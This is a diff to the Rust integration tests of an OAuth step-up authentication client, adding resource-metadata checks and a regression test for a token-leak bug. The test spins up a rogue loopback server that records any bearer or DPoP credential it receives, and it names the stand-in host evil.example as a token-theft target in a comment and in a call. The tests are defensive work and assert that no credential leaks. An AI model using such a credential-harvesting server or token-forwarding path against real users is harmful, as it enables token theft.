@@ -13,12 +13,14 @@
 use std::sync::atomic::{AtomicI64, AtomicUsize, Ordering};
 use std::sync::{Arc, Mutex};
 
+use axum::response::IntoResponse;
 use axum::routing::{get, post};
 use ring::rand::SystemRandom;
 use stepup_client::{
     AuthorizationCallback, BoxFuture, ClientConfig, ClientError, FnUserAgent, Provider, StepUpClient,
     UserAgent, UserAgentError,
 };
+use stepup_core::resource_metadata::ResourceMetadata;
 use stepup_core::totp::TotpSecret;
 use stepup_core::{Clock, Policy, Scope, UnixTime};
 use stepup_guard::{Guard, HttpFetcher, JwtVerifier, TokenVerifier, VerifiedClaims};
@@ -27,7 +29,6 @@ use stepup_server::{Config, ServerState, Store, router, users};
 use url::Url;
 
 const NOW: i64 = 1_800_000_000;
-const AUDIENCE: &str = "https://api.example";
 const PASSWORD: &str = "correct horse battery";
 /// Registered without a port; the agent uses one (RFC 8252 §7.3).
 const REDIRECT: &str = "http://127.0.0.1:9/callback";
@@ -107,11 +108,15 @@ async fn world_with(dpop: bool) -> World {
     std::fs::create_dir_all(&dir).unwrap();
     let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
     let issuer = format!("http://{}", listener.local_addr().unwrap());
+    // The API's identifier is its URL: the resource the client asks
+    // tokens for (RFC 8707) and the audience the guard checks.
+    let api_listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let api_url = format!("http://{}", api_listener.local_addr().unwrap());
     let config = format!(
         r#"
 issuer = "{issuer}"
 database_url = "sqlite://{}/stepup.db"
-audiences = ["{AUDIENCE}"]
+audiences = ["{api_url}"]
 
 [[level]]
 name = "pwd"
@@ -170,14 +175,24 @@ token_seconds = 120
 
     // The API: answers with the acr of the token it was called with, and
     // the body it got.
-    let verifier = JwtVerifier::from_issuer(&issuer, AUDIENCE, HttpFetcher::new().unwrap())
+    let verifier = JwtVerifier::from_issuer(&issuer, &api_url, HttpFetcher::new().unwrap())
         .await
         .unwrap();
     let policy = Policy::from_toml("policy.toml", POLICY).unwrap();
-    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
-    let api_url = format!("http://{}", listener.local_addr().unwrap());
-    let mut guard =
-        Guard::builder(Arc::new(policy), TokenVerifier::Jwt(Arc::new(verifier))).clock(clock.clone());
+    let listener = api_listener;
+    let metadata = ResourceMetadata {
+        resource: api_url.clone(),
+        authorization_servers: vec![issuer.clone()],
+        scopes_supported: policy.scopes(),
+        bearer_methods_supported: vec!["header".into()],
+        dpop_signing_alg_values_supported: vec![],
+        authorization_details_types_supported: vec!["payment_initiation".into()],
+        resource_name: Some("test bank".into()),
+    };
+    let mut guard = Guard::builder(Arc::new(policy), TokenVerifier::Jwt(Arc::new(verifier)))
+        .clock(clock.clone())
+        .resource_metadata(&metadata)
+        .unwrap();
     if dpop {
         let nonces = stepup_guard::dpop::NonceSource::new(&[3u8; 32], 60).unwrap();
         guard = guard.dpop(stepup_guard::dpop::DpopOptions::new(api_url.clone()).nonces(nonces));
@@ -335,6 +350,18 @@ async fn client(w: &World, user: Arc<ScriptedUser>) -> StepUpClient {
     .with_clock(w.clock.clone())
 }
 
+/// The balance, read with the client's token: status and body.
+async fn read_balance(c: &StepUpClient, w: &World) -> (u16, String) {
+    call(
+        c,
+        reqwest::Method::GET,
+        format!("{}/accounts/42/balance", w.api),
+        "",
+    )
+    .await
+    .unwrap()
+}
+
 async fn call(
     c: &StepUpClient,
     method: reqwest::Method,
@@ -398,7 +425,11 @@ async fn reads_with_the_base_token_and_steps_up_once_for_a_payee() {
 async fn an_insufficient_scope_answer_also_steps_up() {
     let w = world().await;
     let user = Arc::new(ScriptedUser::new(&w));
-    let c = client(&w, user.clone()).await;
+    let http = reqwest::Client::new();
+    let provider = Provider::discover(&http, &w.issuer).await.unwrap();
+    // The user configured accounts:close as a scope a step-up may add.
+    let config = ClientConfig::public("cli", ["accounts:read"]).allow_step_up_scopes(["accounts:close"]);
+    let c = StepUpClient::new(http, provider, config, user.clone()).with_clock(w.clock.clone());
     // The token lacks accounts:close: 403 insufficient_scope. The client
     // asks for the scope (the session answers without the user); the API
     // then wants mfa too. That second refusal is returned, not chased: one
@@ -592,17 +623,10 @@ async fn dpop_bound_tokens_step_up_and_follow_nonces() {
     .with_clock(w.clock.clone())
     .with_dpop(key);
     // Both servers ask for their nonce first; the client follows.
-    let got = call(
-        &c,
-        reqwest::Method::GET,
-        format!("{}/accounts/42/balance", w.api),
-        "",
-    )
-    .await
-    .unwrap();
+    let got = read_balance(&c, &w).await;
     assert_eq!(got, (200, "urn:stepup:acr:pwd ".to_owned()));
     assert!(
-        c.tokens().await.base().unwrap().dpop,
+        c.tokens().await.base(&w.api).unwrap().dpop,
         "the token is bound to the key"
     );
     // The step-up works the same with bound tokens.
@@ -668,4 +692,191 @@ async fn a_transaction_is_approved_for_itself_and_the_token_is_not_kept() {
     let response = c.execute_transaction(request, details).await.unwrap();
     assert_eq!(response.status(), 200);
     assert_eq!(user.runs.load(Ordering::SeqCst), before + 1);
+}
+
+/// What a rogue resource server publishes about itself.
+#[derive(Clone, Copy, Debug)]
+enum Rogue {
+    /// No metadata: only a challenge for the strongest level and a
+    /// payments scope.
+    NoMetadata,
+    /// The bank API's own metadata, served as its own, and a challenge
+    /// naming the bank API's metadata address.
+    BanksMetadata,
+    /// Metadata of its own, naming the bank's authorization server.
+    ItsOwn,
+}
+
+/// A rogue resource server on loopback: it records every credential it
+/// is sent and answers every call with a step-up challenge.
+async fn rogue(w: &World, kind: Rogue) -> (String, Arc<Mutex<Vec<String>>>) {
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let url = format!("http://{}", listener.local_addr().unwrap());
+    let seen = Arc::new(Mutex::new(Vec::new()));
+    let (bank, issuer, own) = (w.api.clone(), w.issuer.clone(), url.clone());
+    let bank_metadata_url = format!("{bank}/.well-known/oauth-protected-resource");
+    let record = seen.clone();
+    let app = axum::Router::new().fallback(move |request: axum::extract::Request| {
+        let (record, bank, issuer, own, bank_metadata_url) = (
+            record.clone(),
+            bank.clone(),
+            issuer.clone(),
+            own.clone(),
+            bank_metadata_url.clone(),
+        );
+        async move {
+            for name in ["authorization", "dpop"] {
+                if let Some(v) = request.headers().get(name) {
+                    record
+                        .lock()
+                        .unwrap()
+                        .push(format!("{name}: {}", v.to_str().unwrap()));
+                }
+            }
+            let metadata = |resource: &str| {
+                serde_json::json!({"resource": resource, "authorization_servers": [issuer],
+                    "scopes_supported": ["payments:write"]})
+                .to_string()
+            };
+            let path = request.uri().path();
+            let json = [("content-type", "application/json")];
+            if path == "/.well-known/oauth-protected-resource" {
+                return match kind {
+                    Rogue::NoMetadata => axum::http::StatusCode::NOT_FOUND.into_response(),
+                    Rogue::BanksMetadata => (json, metadata(&bank)).into_response(),
+                    Rogue::ItsOwn => (json, metadata(&own)).into_response(),
+                };
+            }
+            let mut challenge = r#"Bearer error="insufficient_user_authentication", acr_values="urn:stepup:acr:mfa", max_age=0, scope="payments:write""#.to_owned();
+            if matches!(kind, Rogue::BanksMetadata) {
+                challenge.push_str(&format!(r#", resource_metadata="{bank_metadata_url}""#));
+            }
+            (
+                axum::http::StatusCode::UNAUTHORIZED,
+                [("www-authenticate", challenge)],
+            )
+                .into_response()
+        }
+    });
+    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
+    (url, seen)
+}
+
+/// Issue 17 §1: `stepup call http://evil.example/x` handed the stored token
+/// to any URL, and followed any server's challenge at the real
+/// authorization server. A token now goes only to the resource it was
+/// issued for, over https (http on loopback only), and a challenge is
+/// followed only for a resource whose metadata checks out.
+#[tokio::test]
+async fn a_rogue_resource_gets_no_token_and_no_step_up() {
+    let w = world().await;
+    let user = Arc::new(ScriptedUser::new(&w));
+    let c = client(&w, user.clone()).await;
+    // The user holds a token for the bank API.
+    let got = read_balance(&c, &w).await;
+    assert_eq!(got.0, 200);
+    assert_eq!(user.asked(), ["password"]);
+
+    // Plain http off loopback: nothing is sent at all.
+    let err = call(&c, reqwest::Method::POST, "http://evil.example/x".into(), "")
+        .await
+        .unwrap_err();
+    assert!(matches!(err, ClientError::InsecureTransport(_)), "{err}");
+
+    for kind in [Rogue::NoMetadata, Rogue::BanksMetadata, Rogue::ItsOwn] {
+        let (evil, seen) = rogue(&w, kind).await;
+        let err = call(&c, reqwest::Method::POST, format!("{evil}/payees"), "{}")
+            .await
+            .unwrap_err();
+        match kind {
+            Rogue::NoMetadata | Rogue::BanksMetadata => {
+                assert!(
+                    matches!(err, ClientError::UntrustedResource { .. }),
+                    "{kind:?}: {err}"
+                );
+            }
+            // Its metadata is its own and names the bank's authorization
+            // server: the server refuses a token for a resource it does
+            // not serve (RFC 8707), before the user signs in.
+            Rogue::ItsOwn => {
+                let ClientError::Authorization { error, .. } = &err else {
+                    panic!("{kind:?}: {err}");
+                };
+                assert_eq!(error, "invalid_target");
+            }
+        }
+        assert_eq!(
+            seen.lock().unwrap().as_slice(),
+            &[] as &[String],
+            "{kind:?}: the rogue server saw a credential"
+        );
+        assert!(user.asked().is_empty(), "{kind:?}: the user was asked to sign in");
+    }
+    assert_eq!(
+        user.runs.load(Ordering::SeqCst),
+        2,
+        "only the refused authorization request ran"
+    );
+    // The bank API's token still serves the bank API.
+    let got = read_balance(&c, &w).await;
+    assert_eq!(got, (200, "urn:stepup:acr:pwd ".to_owned()));
+    let mut kept = c.tokens().await;
+    kept.prune(NOW);
+    assert_eq!(kept.resources().collect::<Vec<_>>(), [w.api.as_str()]);
+}
+
+/// A challenge that asks for a scope the user did not configure is not
+/// followed without asking: the notice says which resource asks for what,
+/// and the step-up goes on only if it says so.
+#[tokio::test]
+async fn a_challenge_widening_scopes_is_asked_of_the_user() {
+    let w = world().await;
+    let user = Arc::new(ScriptedUser::new(&w));
+    let close = format!("{}/accounts/42", w.api);
+    // No one to ask: declined, the browser never opens for it.
+    let c = client(&w, user.clone()).await;
+    let err = call(&c, reqwest::Method::DELETE, close.clone(), "")
+        .await
+        .unwrap_err();
+    let ClientError::StepUpDeclined {
+        resource,
+        unconfigured_scopes,
+    } = &err
+    else {
+        panic!("{err}");
+    };
+    assert_eq!(
+        (resource.as_str(), unconfigured_scopes.as_slice()),
+        (w.api.as_str(), &["accounts:close".to_owned()][..])
+    );
+    assert_eq!(user.runs.load(Ordering::SeqCst), 1, "the sign-in only");
+
+    // The user is asked, and says no, then yes.
+    let asked = Arc::new(Mutex::new(Vec::new()));
+    let answer = Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let (log, yes) = (asked.clone(), answer.clone());
+    let c = client(&w, user.clone())
+        .await
+        .on_step_up(Arc::new(move |step: &stepup_client::StepUp| {
+            log.lock().unwrap().push(step.clone());
+            yes.load(Ordering::SeqCst)
+        }));
+    let err = call(&c, reqwest::Method::DELETE, close.clone(), "")
+        .await
+        .unwrap_err();
+    assert!(matches!(err, ClientError::StepUpDeclined { .. }), "{err}");
+    let step = asked.lock().unwrap()[0].clone();
+    assert_eq!(step.resource, w.api);
+    assert_eq!(step.resource_name.as_deref(), Some("test bank"));
+    assert_eq!(step.requirement.scope, ["accounts:close"]);
+    assert_eq!(step.unconfigured_scopes, ["accounts:close"]);
+    assert!(
+        step.route.starts_with("DELETE http://127.0.0.1:"),
+        "{}",
+        step.route
+    );
+    answer.store(true, Ordering::SeqCst);
+    let err = call(&c, reqwest::Method::DELETE, close, "").await.unwrap_err();
+    // Followed now (then the API wants mfa as well: one step-up per call).
+    assert!(matches!(err, ClientError::StillChallenged(_)), "{err}");
 }
